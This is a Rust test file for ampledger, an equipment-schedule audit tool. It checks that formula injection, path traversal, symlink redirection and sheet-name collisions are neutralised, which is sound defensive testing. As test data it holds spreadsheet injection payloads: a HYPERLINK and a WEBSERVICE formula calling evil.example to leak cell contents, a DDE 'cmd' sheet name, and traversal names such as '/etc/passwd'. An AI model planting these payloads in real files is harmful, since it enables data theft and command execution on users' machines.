//! Texts and names of schedules stay texts and names.

use super::common::*;
use super::parts;
use rust_xlsxwriter::{Note, Workbook};
use std::collections::BTreeSet;
use std::path::Path;

const BEGINS: [&str; 6] = ["=", "+", "-", "@", "\t", "\r"];

fn attack(begin: &str) -> String {
    format!("{begin}HYPERLINK(\"http://evil.example/\"&A1,\"x\")")
}

/// A job whose every text begins as a formula does, with faults to be found.
fn csv_of_attacks() -> Vec<u8> {
    let mut writer = csv::Writer::from_writer(Vec::new());
    let mut push = |row: [&str; 8]| writer.write_record(row).expect("a row");
    push([
        "Job", "Tag", "Type", "MCA", "MOCP", "Room", "Breaker", "Wire",
    ]);
    for begin in BEGINS {
        let text = attack(begin);
        push([
            &text,
            &text,
            "Outdoor unit",
            "31.4",
            "50",
            &text,
            "60A/2P",
            "2#12 THHN",
        ]);
        push([&text, "FC-1", &text, &text, "15", &text, &text, &text]);
    }
    writer.into_inner().expect("the rows")
}

fn workbook_of_attacks() -> Vec<u8> {
    let mut workbook = Workbook::new();
    let sheet = workbook.add_worksheet();
    sheet.set_name("=cmd|' -C calc'!A1").expect("a name");
    let headings = ["Tag", "Type", "MCA", "MOCP", "Room", "Breaker", "Wire"];
    for (column, heading) in headings.iter().enumerate() {
        sheet.write(0, column as u16, *heading).expect("a heading");
    }
    for (at, begin) in BEGINS.iter().enumerate() {
        let (row, text) = (at as u32 + 1, attack(begin));
        let cells = [
            &text,
            "Outdoor unit",
            "31.4",
            "50",
            &text,
            "60A/2P",
            "2#12 THHN",
        ];
        for (column, cell) in cells.iter().enumerate() {
            sheet
                .write_string(row, column as u16, *cell)
                .expect("a cell");
        }
        sheet
            .insert_note(row, 0, &Note::new(&text))
            .expect("a note");
    }
    // Values that are links and formulas of the author's.
    sheet
        .write_url(8, 4, "http://evil.example/")
        .expect("a link");
    sheet
        .write_formula(9, 4, "=WEBSERVICE(\"http://evil.example/\")")
        .expect("a formula");
    workbook
        .add_worksheet()
        .set_name("Findings")
        .expect("a name");
    workbook.save_to_buffer().expect("a workbook")
}

#[test]
fn what_begins_as_a_formula_stays_a_text_in_every_output() {
    let folder = tempfile::tempdir().expect("a folder");
    write(folder.path(), "in/a/season.csv", csv_of_attacks());
    write(folder.path(), "in/b/book.xlsx", workbook_of_attacks());
    let one: String = String::from_utf8(csv_of_attacks())
        .expect("text")
        .lines()
        .take(3)
        .map(|line| line.split_once(',').map_or("", |(_, rest)| rest).to_owned() + "\n")
        .collect();
    write(folder.path(), "in/c/=1+1.csv", one);
    let out = folder.path().join("out");
    let run = audit(folder.path(), &[&folder.path().join("in")], &out, &[]);
    assert!(run.status.success(), "{}", stderr(&run));
    let (mut workbooks, mut seen) = (0, 0);
    for (name, bytes) in tree(&out) {
        if name.ends_with(".xlsx") {
            workbooks += 1;
            for (part, text) in parts(std::io::Cursor::new(bytes)) {
                seen += text.matches("evil.example").count();
                // An author's own workbook keeps what he put into it.
                let his_own = name == "jobs/book.xlsx";
                if part.starts_with("xl/worksheets/sheet") {
                    let formulas = text.matches("<f>").count() + text.matches("<f ").count();
                    let his = his_own && text.contains("WEBSERVICE");
                    assert_eq!(formulas, usize::from(his), "{name} {part}");
                }
                if part.ends_with(".rels") && !his_own {
                    // Only to what we wrote and what is beside it.
                    for link in text.split("Target=\"").skip(1) {
                        let target = link.split('"').next().unwrap_or("");
                        let scheme = target.split('/').next().unwrap_or("").contains(':');
                        let outside = link.split('>').next().unwrap_or("").contains("External");
                        let near = ["jobs/", "annotated/", "../"]
                            .iter()
                            .any(|p| target.starts_with(p));
                        assert!(!scheme && (near || !outside), "{name} {part}: {target}");
                    }
                }
                assert!(!part.contains("externalLink"), "{name} {part}");
            }
        } else if name.ends_with(".csv") {
            let mut reader = csv::Reader::from_reader(bytes.as_slice());
            for record in reader.records() {
                for field in &record.expect("a row") {
                    assert!(
                        !BEGINS.iter().any(|begin| field.starts_with(begin)),
                        "{name}: {field:?}"
                    );
                    seen += field.matches("evil.example").count();
                }
            }
        }
    }
    assert!(
        workbooks >= 4 && seen > 20,
        "{workbooks} workbooks, {seen} texts"
    );
}

#[test]
fn names_of_jobs_become_names_of_files_in_the_folder() {
    let folder = tempfile::tempdir().expect("a folder");
    let long = "A very long name of a job ".repeat(12);
    let titles = [
        "../../outside",
        "..",
        "/etc/passwd",
        "C:\\Windows\\x",
        "CON",
        "nul.xlsx",
        "Elm",
        "ELM ",
        "elm.",
        "a\u{1}b\u{202e}c",
        &long,
        &format!("{long} 2"),
        "~$lock",
        "-rf",
        "job\nname",
    ];
    let mut writer = csv::Writer::from_writer(Vec::new());
    writer
        .write_record(["Job", "Tag", "Type", "MCA", "MOCP"])
        .expect("a heading");
    for title in titles {
        for tag in ["OU-1", "OU-2"] {
            writer
                .write_record([title, tag, "Outdoor unit", "31.4", "50"])
                .expect("a row");
        }
    }
    write(
        folder.path(),
        "in/season.csv",
        writer.into_inner().expect("rows"),
    );
    let out = folder.path().join("deep/er/out");
    let run = audit(folder.path(), &[&folder.path().join("in")], &out, &[]);
    assert!(run.status.success(), "{}", stderr(&run));
    let all = tree(folder.path());
    let outside: Vec<_> = all
        .keys()
        .filter(|name| !name.starts_with("deep/er/out/") && *name != "in/season.csv")
        .collect();
    assert!(outside.is_empty(), "{outside:?}");
    let named: Vec<String> = rows(&out.join("jobs.csv"))
        .into_iter()
        .map(|row| row["workbook"].clone())
        .collect();
    assert!(named.len() >= 12, "{named:?}");
    let lower: BTreeSet<String> = named.iter().map(|name| name.to_lowercase()).collect();
    assert_eq!(
        lower.len(),
        named.len(),
        "names that differ in case alone: {named:?}"
    );
    for name in &named {
        let plain = name.trim_start_matches('\'');
        assert!(out.join(plain).is_file(), "{name}");
        let stem = plain.strip_prefix("jobs/").expect("in jobs/");
        assert!(
            !stem.contains(['/', '\\', ':', '\n', '\0']) && stem.chars().count() <= 100,
            "{name}"
        );
        assert!(
            !["CON", "NUL"].contains(&stem.split('.').next().unwrap_or("").to_uppercase().as_str()),
            "{name}"
        );
    }
}

#[test]
fn sheets_whose_names_collide_are_all_there() {
    let folder = tempfile::tempdir().expect("a folder");
    let mut workbook = Workbook::new();
    // As long as a name may be, ours among them, and alike but for case.
    let names = [
        "Findings",
        "BASIS",
        "ampledger",
        "1234567890123456789012345678901",
        "123456789012345678901234567 (2)",
    ];
    for (at, name) in names.iter().enumerate() {
        let sheet = workbook.add_worksheet().set_name(*name).expect("a name");
        for (column, text) in ["Tag", "Type", "MCA", "MOCP"].iter().enumerate() {
            sheet.write(0, column as u16, *text).expect("a cell");
        }
        sheet.write(1, 0, format!("OU-{at}")).expect("a cell");
        sheet.write(1, 1, "Outdoor unit").expect("a cell");
        sheet.write(1, 2, 31.4).expect("a cell");
        sheet.write(1, 3, 50).expect("a cell");
    }
    write(
        folder.path(),
        "in/names.xlsx",
        workbook.save_to_buffer().expect("a workbook"),
    );
    // Text files become sheets too: alike in their first 31 characters.
    for end in ["a", "b"] {
        let name = format!("in/two/the same thirty-one characters and more {end}.csv");
        write(
            folder.path(),
            &name,
            format!(
                "Job,Tag,Type,MCA,MOCP\nX,OU-{end},Outdoor unit,31.4,50\nY,OU-1,Outdoor unit,31.4,50\n"
            ),
        );
    }
    let out = folder.path().join("out");
    let run = audit(folder.path(), &[&folder.path().join("in")], &out, &[]);
    assert!(run.status.success(), "{}", stderr(&run));
    assert!(super::open_all(&out) >= 4);
    let bytes = std::fs::read(out.join("jobs/names.xlsx")).expect("the job's workbook");
    let book = parts(std::io::Cursor::new(bytes))
        .into_iter()
        .find(|(name, _)| name == "xl/workbook.xml")
        .map(|(_, text)| text)
        .expect("its list of sheets");
    let found: Vec<String> = book
        .split("<sheet name=\"")
        .skip(1)
        .map(|rest| rest.split('"').next().unwrap_or("").to_lowercase())
        .collect();
    assert!(found.len() >= names.len() + 5, "{found:?}");
    assert_eq!(
        found.iter().collect::<BTreeSet<_>>().len(),
        found.len(),
        "{found:?}"
    );
    assert!(
        found.iter().all(|name| name.chars().count() <= 31),
        "{found:?}"
    );
}

#[cfg(unix)]
#[test]
fn no_link_leads_an_output_out_of_its_folder() {
    use std::os::unix::fs::symlink;
    let folder = tempfile::tempdir().expect("a folder");
    let outside = tempfile::tempdir().expect("a folder");
    let table = "Tag,Type,MCA,MOCP\nOU-1,Outdoor unit,31.4,50\n";
    write(folder.path(), "in/one/equipment.csv", table);
    write(
        folder.path(),
        "in/one/circuits.csv",
        "Panel,Ckt,Load,Breaker\nLP,1,OU-1,60\n",
    );
    let victim = write(outside.path(), "victim.xlsx", "somebody's");
    for linked in [
        "jobs",
        "annotated",
        "annotated/one",
        "jobs/one.xlsx",
        "findings.csv",
        "ampledger.journal",
        "kept",
    ] {
        let out = folder.path().join("out");
        let _ = std::fs::remove_dir_all(&out);
        write(
            &out,
            "ampledger.json",
            r#"{"about":"","version":"","outputs":{}}"#,
        );
        let link = out.join(linked);
        std::fs::create_dir_all(link.parent().expect("a folder")).expect("a folder");
        let target: &Path = if link.extension().is_some() {
            &victim
        } else {
            outside.path()
        };
        symlink(target, &link).expect("a link");
        let run = audit(folder.path(), &[&folder.path().join("in")], &out, &[]);
        assert!(!stderr(&run).contains("panicked"), "{}", stderr(&run));
        let left = tree(outside.path());
        assert_eq!(left.len(), 1, "{linked}: {:?}", left.keys());
        assert_eq!(left["victim.xlsx"], b"somebody's", "{linked}");
        let folders = walkdir::WalkDir::new(outside.path())
            .min_depth(1)
            .into_iter()
            .count();
        assert_eq!(folders, 1, "{linked}: nothing is made outside");
    }
}

/// Runs itself again, since what a hook prints is seen from outside alone.
#[test]
fn a_panic_that_is_caught_prints_nothing() {
    const CHILD: &str = "AMPLEDGER_TEST_PANICS";
    if std::env::var_os(CHILD).is_some() {
        ampledger::cli::quiet_panics();
        let caught = std::panic::catch_unwind(|| panic!("a secret of the schedule"));
        assert!(caught.is_err());
        let _ = std::panic::take_hook();
        return;
    }
    let run = std::process::Command::new(std::env::current_exe().expect("this program"))
        .args([
            "--exact",
            "text::a_panic_that_is_caught_prints_nothing",
            "--nocapture",
        ])
        .env(CHILD, "1")
        .env("RUST_BACKTRACE", "1")
        .output()
        .expect("it runs");
    assert!(run.status.success(), "{}", stderr(&run));
    assert!(stdout(&run).contains("1 passed"), "{}", stdout(&run));
    assert!(
        !stderr(&run).contains("secret") && !stderr(&run).contains("panicked"),
        "{}",
        stderr(&run)
    );
}
